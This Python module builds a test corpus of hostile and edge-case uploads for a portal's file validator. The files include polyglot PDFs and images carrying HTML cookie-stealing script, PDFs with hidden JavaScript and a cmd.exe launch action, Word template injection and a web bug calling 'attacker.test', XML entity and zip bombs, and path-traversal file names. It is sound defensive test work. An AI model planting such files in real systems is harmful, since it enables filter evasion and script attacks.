"""The upload corpus: hostile and edge files, each built from text by code, with what must happen.

Each row names a file, how its bytes are made, and the outcome the portal must give it: accepted
(stored under the name given, as the type given) or refused with the check's code and the words
the person is shown. tests/requests_intake/test_upload_corpus.py uploads every row through the
LEA's eligibility page. To look at the files themselves:

    .venv/bin/python -m tests.data.uploads.corpus          # into tests/data/uploads/files/
    .venv/bin/python -m tests.data.uploads.corpus OUT_DIR  # or elsewhere

(the folder `files/` is not committed: the code below is the corpus.)
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

PDF = "application/pdf"
PNG = "image/png"
JPEG = "image/jpeg"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
MB = 1024 * 1024


# --- PDF, written as text with its cross-reference table ------------------------------------


def pdf(*extra_objects: bytes, catalog: bytes = b"", header=b"%PDF-1.7\n", tail=b"") -> bytes:
    """A one-page PDF; `catalog` is added to the catalog, `extra_objects` numbered from 4."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>",
        *extra_objects,
    ]
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out) + tail


def pdf_in_object_stream() -> bytes:
    """JavaScript inside a compressed object stream, where no raw scan of the bytes sees it."""
    inner = b"<</S/JavaScript/JS(app.alert(1))>>"
    index = b"4 0 "
    data = zlib.compress(index + inner)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>",
        None,  # object 4 lives in the stream
        b"<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>\nstream\n"
        % (len(index), len(data))
        + data
        + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number, body in enumerate(objects, start=1):
        if body is None:
            continue
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    # A cross-reference stream (PDF 1.5): type 1 = at an offset, type 2 = in object stream 5.
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, 6):
        if number == 4:
            rows.append(struct.pack(">BIH", 2, 5, 0))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    xref_offset = len(out)
    rows.append(struct.pack(">BIH", 1, xref_offset, 0))
    table = b"".join(rows)
    out += (
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    )
    return bytes(out)


def encrypted_pdf() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(72, 72)
    writer.encrypt("a-password-the-reviewer-does-not-have", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --- Images -------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*extra_chunks: tuple[bytes, bytes], tail: bytes = b"") -> bytes:
    """A 1×1 PNG; `extra_chunks` go between its header and its pixels."""
    header = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    chunks = b"".join(_png_chunk(kind, data) for kind, data in extra_chunks)
    pixels = _png_chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
    return b"\x89PNG\r\n\x1a\n" + header + chunks + pixels + _png_chunk(b"IEND", b"") + tail


def jpeg(comment: bytes = b"") -> bytes:
    """A JFIF header, an optional comment segment, and the end-of-image marker."""
    jfif = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    com = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
    return b"\xff\xd8" + jfif + com + b"\xff\xd9"


# --- Office Open XML ----------------------------------------------------------------------

_CT = "http://schemas.openxmlformats.org/package/2006/content-types"
_PR = "http://schemas.openxmlformats.org/package/2006/relationships"
_OR = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
WORD_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def content_types(main_part: str, main_type: str, *overrides: tuple[str, str], defaults=()) -> str:
    entries = [
        f'<Default Extension="{ext}" ContentType="{kind}"/>'
        for ext, kind in (
            ("rels", "application/vnd.openxmlformats-package.relationships+xml"),
            ("xml", "application/xml"),
            *defaults,
        )
    ]
    entries += [
        f'<Override PartName="/{name}" ContentType="{kind}"/>'
        for name, kind in ((main_part, main_type), *overrides)
    ]
    return f'<?xml version="1.0"?><Types xmlns="{_CT}">{"".join(entries)}</Types>'


def relationships(*rels: tuple[str, str, str | None]) -> str:
    """`rels`: (type suffix, target, "External" or None)."""
    entries = [
        f'<Relationship Id="rId{index}" Type="{_OR}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for index, (kind, target, mode) in enumerate(rels, start=1)
    ]
    return f'<?xml version="1.0"?><Relationships xmlns="{_PR}">{"".join(entries)}</Relationships>'


def word_body(text: str = "A letter from the county superintendent.") -> str:
    return (
        f'<?xml version="1.0"?><w:document xmlns:w="{_W}" xmlns:r="{_OR}"><w:body>'
        f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    )


def package(parts: dict[str, str | bytes], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx(
    *,
    body: str | None = None,
    document_rels: tuple = (),
    overrides: tuple = (),
    defaults: tuple = (),
    extra: dict | None = None,
    main_type: str = WORD_MAIN,
) -> bytes:
    parts = {
        "[Content_Types].xml": content_types(
            "word/document.xml", main_type, *overrides, defaults=defaults
        ),
        "_rels/.rels": relationships(("officeDocument", "word/document.xml", None)),
        "word/document.xml": body if body is not None else word_body(),
    }
    if document_rels:
        parts["word/_rels/document.xml.rels"] = relationships(*document_rels)
    parts.update(extra or {})
    return package(parts)


def xlsx(*, main_type: str = SHEET_MAIN, extra: dict | None = None) -> bytes:
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    parts = {
        "[Content_Types].xml": content_types(
            "xl/workbook.xml", main_type, ("xl/worksheets/sheet1.xml", sheet_type)
        ),
        "_rels/.rels": relationships(("officeDocument", "xl/workbook.xml", None)),
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook xmlns="{ns}" xmlns:r="{_OR}">'
        '<sheets><sheet name="Budget" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relationships(("worksheet", "worksheets/sheet1.xml", None)),
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?><worksheet xmlns="{ns}"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Coaching</t></is></c></row>'
        "</sheetData></worksheet>",
    }
    parts.update(extra or {})
    return package(parts)


def _every_entry(content: bytes, change) -> bytes:
    """`content` with change(bytes, header start, offset of the flags) applied to each of the
    zip's local and central headers (the method's two bytes follow the flags' two)."""
    content = bytearray(content)
    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(signature)
        while start != -1:
            change(content, start + flags_at)
            start = content.find(signature, start + 4)
    return bytes(content)


def docx_with_flag(bit: int) -> bytes:
    """A Word package whose parts all carry one more of the zip's flag bits (0: encrypted,
    5: patched data)."""

    def flagged(content, flags):
        content[flags] |= 1 << bit

    return _every_entry(docx(), flagged)


def docx_compressed_with(method: int) -> bytes:
    """A Word package whose parts claim a compression method by number (9: Deflate64)."""

    def relabelled(content, flags):
        content[flags + 2 : flags + 4] = method.to_bytes(2, "little")

    return _every_entry(docx(), relabelled)


def docx_bomb(size: int) -> bytes:
    """A Word package whose document part is `size` bytes of one repeated character."""
    padding = " " * (size - len(word_body()))
    return docx(body=word_body().replace("<w:body>", "<w:body>" + padding, 1))


_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
)

# --- The rows -----------------------------------------------------------------------------


@dataclass(frozen=True)
class Row:
    name: str  # the file's name as the person's computer gives it
    build: object  # () -> bytes
    code: str | None  # None: accepted; otherwise the check that refuses it
    shown: str  # accepted: the name stored and served; refused: words the person sees
    content_type: str | None = None  # accepted: the type detected

    @property
    def accepted(self) -> bool:
        return self.code is None


HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
_TYPE = "is not a PDF, Word (.docx), Excel (.xlsx), PNG or JPEG file"
_HTML_SHOWN = "contains web page (HTML) code besides its own content"
_OOXML_HTML = "contains a web page (HTML) or script part"
_PARTS = "is not a complete Word (.docx) or Excel (.xlsx) document"
_MACROS = "contains macros or ActiveX controls"
_EXTERNAL = "links to content outside the file that Word or Excel would fetch"
_DAMAGED = "could not be read as a Word or Excel document"
_COMPRESSION = "is compressed in a way Word and Excel do not use"
_JS = "is a PDF that contains JavaScript"

ROWS = [
    # Accepted, under a name ending in the detected type's extension.
    Row("letter.pdf", lambda: pdf(), None, "letter.pdf", PDF),
    Row("Letter March.PDF", lambda: pdf(), None, "Letter March.pdf", PDF),
    Row("determination.html", lambda: pdf(), None, "determination.pdf", PDF),
    Row("scan", lambda: pdf(), None, "scan.pdf", PDF),
    Row("../../etc/passwd.pdf", lambda: pdf(), None, "passwd.pdf", PDF),
    Row("bell\x07name.pdf", lambda: pdf(), None, "bellname.pdf", PDF),
    Row("scan.png", lambda: png(), None, "scan.png", PNG),
    Row("photo.jpeg", lambda: jpeg(), None, "photo.jpeg", JPEG),
    Row("photo.png", lambda: jpeg(), None, "photo.jpg", JPEG),
    Row("letter.docx", lambda: docx(), None, "letter.docx", DOCX),
    Row("budget.xlsx", lambda: xlsx(), None, "budget.xlsx", XLSX),
    Row(
        "with-link.docx",
        lambda: docx(document_rels=(("hyperlink", "https://www.cde.ca.gov/", "External"),)),
        None,
        "with-link.docx",
        DOCX,
    ),
    Row("spaces.docx", lambda: docx_bomb(2 * MB), None, "spaces.docx", DOCX),
    Row(
        "prose.docx",
        lambda: docx(body=word_body("Sign up online = yes; &lt;script&gt; and javascript: links.")),
        None,
        "prose.docx",
        DOCX,
    ),
    # Refused: not one of the accepted types, whatever the name says.
    Row("empty.pdf", lambda: b"", "empty", "is empty"),
    Row("notes.pdf", lambda: b"Plain text pretending to be a PDF.", "type", _TYPE),
    Row("page.pdf", lambda: HTML, "type", _TYPE),
    Row(
        "drawing.png",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
        "type",
        _TYPE,
    ),
    Row("setup.pdf", lambda: b"MZ\x90\x00" + b"\x00" * 60 + b"This program", "type", _TYPE),
    Row("anim.png", lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "type", _TYPE),
    Row("macro.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, "type", _TYPE),
    # Refused: HTML-bearing polyglots.
    Row("audit.html", lambda: b"%PDF-1.4\n" + HTML, "html", _HTML_SHOWN),
    Row("polyglot.pdf", lambda: pdf(header=b"%PDF-1.7\n%" + HTML + b"\n"), "html", _HTML_SHOWN),
    Row("tail.pdf", lambda: pdf(tail=HTML), "html", _HTML_SHOWN),
    Row("comment.png", lambda: png((b"tEXt", b"Comment\x00" + HTML)), "html", _HTML_SHOWN),
    Row("after-end.png", lambda: png(tail=HTML), "html", _HTML_SHOWN),
    Row("comment.jpg", lambda: jpeg(HTML), "html", _HTML_SHOWN),
    Row("tail.docx", lambda: docx() + HTML, "html", _HTML_SHOWN),
    # Refused: PDFs that run code.
    Row(
        "open-action.pdf",
        lambda: pdf(b"<</S/JavaScript/JS(app.alert(1))>>", catalog=b"/OpenAction 4 0 R"),
        "pdf_active",
        _JS,
    ),
    Row(
        "names-tree.pdf",
        lambda: pdf(
            b"<</JavaScript<</Names[(x) 5 0 R]>>>>",
            b"<</S/JavaScript/JS(1)>>",
            catalog=b"/Names 4 0 R",
        ),
        "pdf_active",
        _JS,
    ),
    Row(
        "escaped.pdf",
        lambda: pdf(b"<</S/J#61vaScript/J#53(app.alert(1))>>", catalog=b"/OpenAction 4 0 R"),
        "pdf_active",
        _JS,
    ),
    Row(
        "launch.pdf",
        lambda: pdf(b"<</S/Launch/F(cmd.exe)>>", catalog=b"/OpenAction 4 0 R"),
        "pdf_active",
        "is a PDF that contains a launch action",
    ),
    Row("hidden.pdf", pdf_in_object_stream, "pdf_active", _JS),
    Row("locked.pdf", encrypted_pdf, "pdf_encrypted", "is a password-protected PDF"),
    Row(
        "broken.pdf",
        lambda: b"%PDF-1.4\n1 0 obj<</Type/Catalog",
        "pdf_damaged",
        "could not be read as a PDF",
    ),
    # Refused: Office packages that are incomplete or unsafe.
    Row(
        "audit.docx",
        lambda: package({"[Content_Types].xml": "<Types/>", "word/evil.html": HTML.decode()}),
        "ooxml_html",
        _OOXML_HTML,
    ),
    Row(
        "types-only.docx",
        lambda: package({"[Content_Types].xml": "<Types/>", "word/document.xml": word_body()}),
        "ooxml_parts",
        _PARTS,
    ),
    Row("archive.docx", lambda: package({"readme.txt": "just a zip"}), "ooxml_parts", _PARTS),
    Row(
        "no-main.docx",
        lambda: package(
            {
                "[Content_Types].xml": content_types("word/document.xml", WORD_MAIN),
                "_rels/.rels": relationships(("officeDocument", "word/document.xml", None)),
            }
        ),
        "ooxml_parts",
        _PARTS,
    ),
    Row("bomb.docx", lambda: docx_bomb(120 * MB), "ooxml_size", "expands to more than 100 MB"),
    Row("ratio.docx", lambda: docx_bomb(30 * MB), "ooxml_ratio", "expands more than 100 times"),
    Row("macros.docx", lambda: docx(main_type=WORD_MACRO_MAIN), "ooxml_macros", _MACROS),
    Row(
        "vba.docx",
        lambda: docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "ooxml_macros",
        _MACROS,
    ),
    Row(
        "activex.docx",
        lambda: docx(extra={"word/activeX/activeX1.xml": "<ax/>"}),
        "ooxml_macros",
        _MACROS,
    ),
    Row(
        "macros.xlsx",
        lambda: xlsx(main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),  # noqa: E501
        "ooxml_macros",
        _MACROS,
    ),
    Row(
        "template-injection.docx",
        lambda: docx(
            document_rels=(("attachedTemplate", "http://attacker.test/t.dotm", "External"),)
        ),
        "ooxml_external",
        _EXTERNAL,
    ),
    Row(
        "web-bug.docx",
        lambda: docx(document_rels=(("image", "http://attacker.test/pixel.png", "External"),)),
        "ooxml_external",
        _EXTERNAL,
    ),
    Row(
        "altchunk.docx",
        lambda: docx(
            overrides=(("word/afchunk.dat", "text/html"),),
            extra={"word/afchunk.dat": "<p>hello</p>"},
        ),
        "ooxml_html",
        _OOXML_HTML,
    ),
    Row(
        "svg-script.docx",
        lambda: docx(
            extra={
                "word/media/image1.svg": '<svg xmlns="http://www.w3.org/2000/svg">'
                "<script>alert(1)</script></svg>"
            }
        ),
        "ooxml_html",
        _OOXML_HTML,
    ),
    Row(
        "onload.docx",
        lambda: docx(
            extra={
                "word/media/image1.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'
            }
        ),
        "ooxml_html",
        _OOXML_HTML,
    ),
    Row(
        "js-link.docx",
        lambda: docx(document_rels=(("hyperlink", "javascript:alert(1)", "External"),)),
        "ooxml_html",
        _OOXML_HTML,
    ),
    Row(
        "laughs.docx",
        lambda: docx(body=_LAUGHS + "<w:document>&lol2;</w:document>"),
        "ooxml_xml",
        "contains XML declarations",
    ),
    Row(
        "laughs-types.docx",
        lambda: package(
            {
                "[Content_Types].xml": _LAUGHS + "<Types>&lol2;</Types>",
                "_rels/.rels": relationships(("officeDocument", "word/document.xml", None)),
                "word/document.xml": word_body(),
            }
        ),
        "ooxml_xml",
        "contains XML declarations",
    ),
    Row(
        "traversal.docx",
        lambda: docx(extra={"../../outside.xml": "<x/>"}),
        "ooxml_damaged",
        _DAMAGED,
    ),
    Row("locked.docx", lambda: docx_with_flag(0), "ooxml_encrypted", "is password-protected"),
    Row("deflate64.docx", lambda: docx_compressed_with(9), "ooxml_compression", _COMPRESSION),
    Row("ppmd.docx", lambda: docx_compressed_with(98), "ooxml_compression", _COMPRESSION),
    Row("patched.docx", lambda: docx_with_flag(5), "ooxml_compression", _COMPRESSION),
    Row("truncated.docx", lambda: docx()[:300], "ooxml_damaged", _DAMAGED),
]


def write(folder: Path) -> list[Path]:
    """Write every row's file into `folder` (numbered, as names repeat), with a manifest."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    manifest = ["file\tname uploaded\toutcome\tshown"]
    for index, row in enumerate(ROWS, start=1):
        safe = "".join(ch if ch.isalnum() or ch in ".-" else "_" for ch in row.name)
        path = folder / f"{index:02d}-{safe}"
        path.write_bytes(row.build())
        written.append(path)
        outcome = "accepted" if row.accepted else f"refused ({row.code})"
        manifest.append(f"{path.name}\t{row.name!r}\t{outcome}\t{row.shown}")
    (folder / "MANIFEST.tsv").write_text("\n".join(manifest) + "\n")
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent / "files"
    print(f"{len(write(target))} files written to {target}")
